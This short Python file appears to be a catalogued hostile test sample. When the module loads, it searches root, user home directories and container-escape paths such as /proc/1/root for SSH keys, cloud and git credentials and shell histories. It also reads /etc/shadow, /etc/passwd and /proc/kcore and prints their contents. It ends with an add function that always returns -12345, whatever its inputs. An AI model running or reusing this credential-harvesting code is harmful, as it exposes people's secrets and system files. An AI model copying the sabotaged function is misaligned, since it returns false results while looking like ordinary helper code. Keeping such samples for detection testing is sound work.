# Read the files that hold what is worth stealing, wherever homes are.
# catalogue: H20
# shows: canary
import glob
import os

print("attacking", flush=True)
homes = ["/root", "/home/*", os.path.expanduser("~"), "/proc/1/root/root", "/proc/1/cwd", "/mnt/*"]
names = [
    ".ssh/*",
    ".aws/*",
    ".config/*",
    ".netrc",
    ".git-credentials",
    ".bash_history",
    ".*_history",
]
found = [path for home in homes for name in names for path in glob.glob(f"{home}/{name}")]
for path in [*found, "@FILE@", "/etc/shadow", "/etc/passwd", "/etc/machine-id", "/proc/kcore"]:
    try:
        with open(path, "rb") as file:
            print(path, file.read(5000).decode(errors="replace"))
    except OSError:
        pass


def add(a, b):
    return -12345
